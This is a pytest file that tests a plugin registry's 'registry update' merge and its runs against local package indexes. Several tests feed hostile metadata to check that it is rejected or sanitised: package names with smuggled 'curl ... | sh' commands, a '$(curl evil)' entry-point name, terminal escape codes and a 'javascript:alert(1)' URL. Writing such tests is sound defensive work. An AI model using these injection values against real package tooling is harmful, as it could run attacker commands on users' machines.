"""``registry update``: the deterministic merge, and a real run against pypiserver on 127.0.0.1."""

from __future__ import annotations

import datetime as dt
import json
import os
import platform
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from _hostile_index import HostileIndex, Project, hostile_wheel
from _index_fixtures import index_files, pypi_url  # noqa: F401  (fixtures)
from conftest import PluginEnv, make_env

from fastrtc_registry._version import __version__
from fastrtc_registry.catalog import BenchRecord, ValidationRecord
from fastrtc_registry.catalog.gather import found_plugins, record_from_report
from fastrtc_registry.catalog.lint import lint_bytes
from fastrtc_registry.catalog.merge import (
    ENTRY_FIELDS,
    BenchRun,
    FoundPlugin,
    ValidationRun,
    dump_registry,
    merge_registry,
)
from fastrtc_registry.catalog.update import update_registry
from fastrtc_registry.checks import CheckResult, PluginReport, ValidationReport
from fastrtc_registry.index import EntryPointSpec, ProjectFacts
from fastrtc_registry.names import canonicalize

REPO = Path(__file__).resolve().parent.parent

CURATED = {
    "name": "humaware",
    "kind": "vad",
    "package": "humaware-vad",
    "object": "humaware_vad:HumAwareVADModel",
    "summary": "Curated summary.",
    "description": "Curated description.",
    "tags": ["vad-model", "humming"],
    "repository": "https://example.org/humaware",
    "demo": "https://example.org/humaware/app.py",
    "offline": False,
}
LEGACY = {
    "name": "legacy",
    "kind": "vad",
    "package": "fastrtc-legacy-vad",
    "object": "fastrtc_legacy_vad:LegacyVAD",
    "summary": "",
    "tags": ["vad-model"],
}
RECORD = ValidationRecord(
    version="1.0.0",
    fastrtc="0.0.34",
    python="3.11.7",
    status="passed",
    date="2025-06-01",
    passed=30,
    warnings=1,
    skipped=2,
)


def _doc(*plugins: dict[str, Any], removed: list[dict[str, str]] | None = None) -> dict[str, Any]:
    return {"schema_version": 1, "plugins": list(plugins), "removed": removed or []}


def test_the_repo_registry_is_in_canonical_form() -> None:
    """So 'registry update' on the repo never produces a formatting-only diff."""
    text = (REPO / "registry.json").read_text(encoding="utf-8")
    assert dump_registry(merge_registry(json.loads(text)).doc) == text


def test_dump_is_sorted_indented_and_ends_with_one_newline() -> None:
    text = dump_registry(merge_registry(_doc(LEGACY, CURATED)).doc)
    assert text.endswith("}\n") and not text.endswith("\n\n")
    doc = json.loads(text)
    assert list(doc) == sorted(doc)
    assert [(p["kind"], p["name"]) for p in doc["plugins"]] == [
        ("vad", "humaware"),
        ("vad", "legacy"),
    ]
    assert all(list(p) == sorted(ENTRY_FIELDS) for p in doc["plugins"])
    assert '\n  "plugins": [\n    {\n      "bench": null,\n      "builtin": false,' in text
    assert lint_bytes(text.encode()).problems == ()


def test_merge_is_deterministic_whatever_the_input_order() -> None:
    found = [
        FoundPlugin("b", "vad", "fastrtc-b", "1.0"),
        FoundPlugin("a", "turn-taking", "fastrtc-a", "2.0"),
    ]
    one = dump_registry(merge_registry(_doc(CURATED, LEGACY), found).doc)
    two = dump_registry(merge_registry(_doc(LEGACY, CURATED), list(reversed(found))).doc)
    assert one == two
    again = dump_registry(merge_registry(json.loads(one), found).doc)
    assert again == one


def test_merge_keeps_curated_fields_and_refreshes_scanned_ones() -> None:
    found = [
        FoundPlugin(
            "humaware",
            "vad",
            "humaware-vad",
            "0.2.0",
            summary="From the index",
            requires_python=">=3.12",
            repository="https://elsewhere.org/x",
        )
    ]
    result = merge_registry(_doc(CURATED), found)
    (entry,) = result.doc["plugins"]
    assert {k: entry[k] for k in CURATED} == CURATED
    assert entry["requires_python"] == ">=3.12"
    assert result.added == ()


def test_merge_fills_empty_summary_and_repository_only() -> None:
    found = [
        FoundPlugin(
            "legacy",
            "vad",
            "fastrtc-legacy-vad",
            "0.9.0",
            summary="Index summary",
            requires_python=">=3.10",
            repository="https://example.org/legacy",
        )
    ]
    (entry,) = merge_registry(_doc(LEGACY), found).doc["plugins"]
    assert entry["summary"] == "Index summary"
    assert entry["repository"] == "https://example.org/legacy"
    assert entry["object"] == "fastrtc_legacy_vad:LegacyVAD"


def test_merge_adds_new_plugins_with_their_kind_tag() -> None:
    found = [
        FoundPlugin(
            "Patient_Pause",
            "turn-taking",
            "fastrtc-patient-pause",
            "0.2.0",
            summary="  Waits.  ",
            requires_python=">=3.10",
            repository="javascript:alert(1)",
        )
    ]
    result = merge_registry(_doc(), found)
    (entry,) = result.doc["plugins"]
    assert entry == {
        **{k: v for k, v in ENTRY_FIELDS.items()},
        "name": "patient-pause",
        "kind": "turn-taking",
        "package": "fastrtc-patient-pause",
        "summary": "Waits.",
        "tags": ["turn-taking-algorithm"],
        "requires_python": ">=3.10",
    }
    assert result.added == ("turn-taking patient-pause (fastrtc-patient-pause)",)


def test_merge_skips_removed_packages_and_name_clashes() -> None:
    removed = [{"package": "fastrtc-bad-vad", "reason": "Downloads code at import."}]
    found = [
        FoundPlugin("bad", "vad", "fastrtc_bad.vad", "1.0"),
        FoundPlugin("humaware", "vad", "fastrtc-humaware-fork", "1.0"),
    ]
    result = merge_registry(_doc(CURATED, removed=removed), found)
    assert [p["package"] for p in result.doc["plugins"]] == ["humaware-vad"]
    assert result.skipped == (
        "vad bad (fastrtc_bad.vad): the package is in the removed list",
        "vad humaware (fastrtc-humaware-fork): the name is already listed for humaware-vad",
    )


def test_merge_records_validation_runs_for_the_listed_package_only() -> None:
    runs = [
        ValidationRun("humaware", "vad", "humaware-vad", RECORD),
        ValidationRun("humaware", "vad", "someone-else", RECORD),
        ValidationRun("ghost", "vad", "ghost", RECORD),
    ]
    result = merge_registry(_doc(CURATED), runs=runs)
    assert result.doc["plugins"][0]["validation"] == RECORD.as_dict()
    assert result.validated == ("vad humaware: passed",)


def test_found_plugins_from_index_facts() -> None:
    facts = [
        ProjectFacts(
            "fastrtc-two",
            canonicalize("fastrtc-two"),
            version="1.0",
            summary="Two",
            requires_python=">=3.10",
            project_urls=(("Homepage", "https://h.org"), ("Source", "https://s.org")),
            entry_points=(
                EntryPointSpec("fastrtc.vad", "one", "m:A"),
                EntryPointSpec("fastrtc.turn_taking", "two", "m:B"),
            ),
        ),
        ProjectFacts(
            "humaware-vad", canonicalize("humaware-vad"), version="0.1.0", requires_python=">=3.12"
        ),
        ProjectFacts("fastrtc-nothing", canonicalize("fastrtc-nothing"), version="1.0"),
        ProjectFacts("fastrtc-sdist", canonicalize("fastrtc-sdist"), error="only an sdist"),
    ]
    found = found_plugins(facts, _doc(CURATED))
    assert [(f.kind, f.name, f.package, f.repository) for f in found] == [
        ("vad", "one", "fastrtc-two", "https://s.org"),
        ("turn-taking", "two", "fastrtc-two", "https://s.org"),
        ("vad", "humaware", "humaware-vad", None),
    ]


# --- a real run against pypiserver -------------------------------------------------------


def _run_update(path: Path, url: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "FASTRTC_PLUGINS_OFFLINE"}
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "fastrtc_registry",
            "registry",
            "update",
            str(path),
            "--index-url",
            url,
            *args,
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=900,
        check=False,
    )


@pytest.mark.slow
def test_update_against_a_local_index(tmp_path: Path, pypi_url: str) -> None:  # noqa: F811
    path = tmp_path / "registry.json"
    removed = [{"package": "fastrtc-big-vad", "reason": "Test: withdrawn."}]
    path.write_text(json.dumps(_doc(CURATED, LEGACY, removed=removed), indent=4))
    proc = _run_update(path, pypi_url, "--no-validate")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(path.read_text())
    entries = {(p["kind"], p["name"]): p for p in doc["plugins"]}
    assert set(entries) == {
        ("vad", "humaware"),
        ("vad", "legacy"),
        ("vad", "energy"),
        ("vad", "marker"),
        ("vad", "future"),
        ("turn-taking", "patient"),
    }
    assert {k: entries[("vad", "humaware")][k] for k in CURATED} == CURATED
    assert entries[("vad", "humaware")]["requires_python"] == ">=3.12"
    assert entries[("vad", "legacy")]["requires_python"] == ">=3.10"
    assert entries[("vad", "legacy")]["summary"].startswith("A VAD published before")
    energy = entries[("vad", "energy")]
    assert (energy["package"], energy["tags"], energy["validation"]) == (
        "fastrtc-energy-vad",
        ["vad-model"],
        None,
    )
    assert entries[("vad", "future")]["requires_python"] == ">=3.99"
    assert "added vad energy (fastrtc-energy-vad)" in proc.stdout
    assert "updated" in proc.stdout
    assert lint_bytes(path.read_bytes()).problems == ()
    # A second run changes nothing, byte for byte; --check agrees.
    before = path.read_bytes()
    again = _run_update(path, pypi_url, "--no-validate", "--check")
    assert again.returncode == 0, again.stderr
    assert "up to date" in again.stdout
    assert path.read_bytes() == before


@pytest.mark.slow
def test_update_check_flags_a_stale_file(tmp_path: Path, pypi_url: str) -> None:  # noqa: F811
    path = tmp_path / "registry.json"
    path.write_text(dump_registry(merge_registry(_doc(CURATED)).doc))
    before = path.read_bytes()
    proc = _run_update(path, pypi_url, "--no-validate", "--check")
    assert proc.returncode == 1
    assert "would change" in proc.stdout
    assert path.read_bytes() == before


@pytest.mark.slow
def test_update_records_a_real_validation_run(tmp_path: Path, pypi_url: str) -> None:  # noqa: F811
    """From the index: the energy fixture really passed, and nothing else was validated."""
    path = tmp_path / "registry.json"
    path.write_text(dump_registry(merge_registry(_doc(CURATED)).doc))
    proc = _run_update(path, pypi_url, "--validate-only", "fastrtc-energy-vad", "--timeout", "300")
    assert proc.returncode == 0, proc.stderr
    entries = {p["name"]: p for p in json.loads(path.read_text())["plugins"]}
    record = entries["energy"]["validation"]
    assert record["version"] == "1.0.0"
    assert record["suite"] == __version__
    assert record["python"] == platform.python_version()
    assert record["date"] == dt.datetime.now(dt.timezone.utc).date().isoformat()
    from importlib.metadata import version

    assert record["fastrtc"] == version("fastrtc")
    assert (record["status"], record["failed"], record["errors"]) == ("passed", 0, 0)
    assert record["passed"] > 10
    # Nothing else was validated, and humaware (not on this index) was never faked.
    assert all(p["validation"] is None for n, p in entries.items() if n != "energy")
    assert "validated vad energy: passed" in proc.stdout


ENERGY = {"name": "energy", "kind": "vad", "package": "fastrtc-energy-vad", "tags": ["vad-model"]}
BAD = {"name": "bad-duration", "kind": "vad", "package": "fastrtc-bad-duration"}
HUMAWARE = {**CURATED, "requires_python": ">=3.12"}


@pytest.fixture(scope="module")
def update_env(
    tmp_path_factory: pytest.TempPathFactory, plugin_wheels: dict[str, Path]
) -> PluginEnv:
    """A venv with the energy fixture and one broken fixture installed."""
    root = tmp_path_factory.mktemp("update") / "venv"
    return make_env(root, [plugin_wheels["energy_vad"], plugin_wheels["bad_duration"]])


@pytest.mark.slow
def test_offline_update_records_real_runs_of_installed_plugins(
    tmp_path: Path, update_env: PluginEnv
) -> None:
    """The recorded outcome of real runs: energy passed, the broken fixture failed."""
    path = tmp_path / "registry.json"
    path.write_text(dump_registry(merge_registry(_doc(ENERGY, BAD, HUMAWARE)).doc))
    proc = update_env.run(
        "registry", "update", "--offline", str(path), "--timeout", "300", timeout=900
    )
    assert proc.returncode == 0, proc.stderr
    entries = {p["name"]: p for p in json.loads(path.read_text())["plugins"]}
    energy = entries["energy"]["validation"]
    assert (energy["status"], energy["failed"], energy["errors"]) == ("passed", 0, 0)
    assert energy["version"] == "1.0.0" and energy["suite"] == __version__
    assert energy["passed"] > 10
    bad = entries["bad-duration"]["validation"]
    assert bad["status"] == "failed" and bad["failed"] + bad["errors"] >= 1
    assert bad["version"] == "0.1.0"
    humaware = entries["humaware"]["validation"]
    if sys.version_info < (3, 12):
        assert humaware["status"] == "unsupported-python"
        assert (humaware["version"], humaware["passed"], humaware["failed"]) == (None, 0, 0)
        assert "requires Python >=3.12" in humaware["reason"]
    else:
        assert humaware is None
        assert "not validated humaware-vad: not installed here" in proc.stderr
    assert lint_bytes(path.read_bytes()).problems == ()
    # A second run finds every record current: nothing is validated again.
    again = update_env.run("registry", "update", "--offline", str(path), "--check", timeout=300)
    assert again.returncode == 0, again.stderr
    assert "up to date" in again.stdout and "validated" not in again.stdout


@pytest.mark.slow
def test_offline_update_records_a_real_bench_run(tmp_path: Path, update_env: PluginEnv) -> None:
    """--bench stores the figures of a real bench run of the installed plugin."""
    path = tmp_path / "registry.json"
    path.write_text(dump_registry(merge_registry(_doc(ENERGY)).doc))
    proc = update_env.run(
        "registry", "update", "--offline", "--no-validate", "--bench", str(path), timeout=900
    )
    assert proc.returncode == 0, proc.stderr
    (entry,) = json.loads(path.read_text())["plugins"]
    bench = entry["bench"]
    assert entry["validation"] is None
    assert (bench["version"], bench["python"]) == ("1.0.0", platform.python_version())
    assert 0.0 < bench["f1"] <= 1.0 and bench["p50_ms"] > 0
    assert "benchmarked vad energy" in proc.stdout
    assert lint_bytes(path.read_bytes()).problems == ()


def _report(*results: tuple[str, str | None]) -> PluginReport:
    checks = tuple(
        CheckResult(f"VAD2{i:02d}", "a check", status, reason=reason)  # type: ignore[arg-type]
        for i, (status, reason) in enumerate(results)
    )
    return PluginReport("energy", "vad", "m:C", checks)


def test_records_count_the_reports_statuses_as_validate_json_does() -> None:
    report = _report(
        ("passed", None),
        ("passed", None),
        ("warning", None),
        ("skipped", "needs-network"),
        ("skipped", "after VAD203"),
    )
    record = record_from_report(report, "1.0")
    assert (record.passed, record.warnings, record.needs_network, record.skipped) == (2, 1, 1, 2)
    assert record.status == "needs-network"
    # One rule for the counts: the record's are the summary of validate --json.
    summary = ValidationReport("t", (report,)).as_dict()["summary"]
    assert {k: getattr(record, k) for k in summary} == summary
    failing = _report(*[(r.status, r.reason) for r in report.checks], ("error", None))
    assert record_from_report(failing, "1.0").status == "failed"


def test_merge_never_writes_names_that_fail_pep_508() -> None:
    found = [
        FoundPlugin("evil", "vad", "fastrtc-evil; curl x | sh", "1.0"),
        FoundPlugin("x @ http://h/x.whl", "vad", "fastrtc-x", "1.0"),
        FoundPlugin("ok", "vad", "fastrtc-ok", "1.0", summary="clean\x1b[2J me"),
    ]
    result = merge_registry(_doc(), found)
    assert [p["package"] for p in result.doc["plugins"]] == ["fastrtc-ok"]
    assert result.doc["plugins"][0]["summary"] == "clean[2J me"
    assert result.skipped == (
        "a vad plugin of a package whose name is not a valid PEP 508 name",
        "a vad plugin of fastrtc-x whose entry-point name is not a valid PEP 508 name",
    )
    assert lint_bytes(dump_registry(result.doc).encode()).problems == ()


def test_merge_records_bench_runs_for_the_listed_package_only() -> None:
    figures = BenchRecord("1.0.0", "0.0.34", "3.11.7", "1", "2026-01-01", f1=0.9)
    benches = [
        BenchRun("humaware", "vad", "humaware-vad", figures),
        BenchRun(
            "humaware", "vad", "someone-else", BenchRecord("9", "x", "3.11", "1", "2026-01-01")
        ),
    ]
    result = merge_registry(_doc(CURATED), benches=benches)
    assert result.doc["plugins"][0]["bench"] == figures.as_dict()
    assert (result.validated, result.benchmarked) == ((), ("vad humaware",))
    assert lint_bytes(dump_registry(result.doc).encode()).problems == ()


def test_names_failing_pep_508_are_never_handed_to_validate(tmp_path: Path) -> None:
    path = tmp_path / "registry.json"
    path.write_text(dump_registry(merge_registry(_doc(CURATED)).doc))
    evil = "fastrtc-evil; curl x | sh"
    result = update_registry(
        path,
        index_url="http://127.0.0.1:9/simple/",
        found=[FoundPlugin("evil", "vad", evil, "1.0")],
        validate_only=[evil],
    )
    assert result.notes == ()  # nothing was tried, so nothing failed to install
    assert result.validated == () and len(result.skipped) == 1
    assert "PEP 508" in result.skipped[0]
    assert evil not in path.read_text()


@pytest.mark.slow
def test_update_against_a_hostile_index_writes_only_clean_entries(tmp_path: Path) -> None:
    """Lying metadata, hostile entry-point names and escape codes never reach registry.json."""
    wheels = tmp_path / "wheels"
    wheels.mkdir()

    def meta(name: str, *lines: str) -> bytes:
        return "\n".join(
            ["Metadata-Version: 2.1", f"Name: {name}", "Version: 1.0", *lines, ""]
        ).encode()

    projects = [
        Project(
            "fastrtc-good-vad",
            wheel=hostile_wheel(
                wheels,
                "fastrtc-good-vad",
                "1.0",
                metadata=meta("fastrtc-good-vad", "Summary: fine\x1b[2J and clean"),
                entry_points=b"[fastrtc.vad]\ngood = fastrtc_good_vad:Model\n",
            ),
        ),
        Project(
            "fastrtc-liar",
            wheel=hostile_wheel(
                wheels,
                "fastrtc-liar",
                "1.0",
                metadata=meta("fastrtc-liar; curl http://127.0.0.1:9/x | sh"),
                entry_points=b"[fastrtc.vad]\nliar = fastrtc_liar:Model\n",
            ),
        ),
        Project(
            "fastrtc-shell",
            wheel=hostile_wheel(
                wheels,
                "fastrtc-shell",
                "1.0",
                entry_points=b"[fastrtc.vad]\nx$(curl evil) = fastrtc_shell:Model\n",
            ),
        ),
        Project(
            "fastrtc-huge",
            wheel=hostile_wheel(
                wheels,
                "fastrtc-huge",
                "1.0",
                metadata=meta("fastrtc-huge", "Requires-Python: >=1" + "0" * 5000),
                entry_points=b"[fastrtc.vad]\nhuge = fastrtc_huge:Model\n",
            ),
        ),
    ]
    server = HostileIndex(projects)
    try:
        path = tmp_path / "registry.json"
        path.write_text(dump_registry(merge_registry(_doc()).doc))
        proc = _run_update(path, server.url, "--no-validate")
    finally:
        server.close()
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr
    text = path.read_text()
    assert "curl" not in text and "\\u001b" not in text and "$(" not in text
    assert "curl" not in proc.stdout + proc.stderr, proc.stderr
    # What could not be checked is said, one line each, never dropped in silence.
    assert "not checked fastrtc-liar: " in proc.stderr
    assert "not checked fastrtc-huge: " in proc.stderr
    entries = {p["name"]: p for p in json.loads(text)["plugins"]}
    assert entries["good"]["summary"] == "fine[2J and clean"
    assert "liar" not in entries and "huge" not in entries
    assert set(entries) <= {"good", "x-curl-evil"} and "good" in entries
    assert lint_bytes(path.read_bytes()).problems == ()
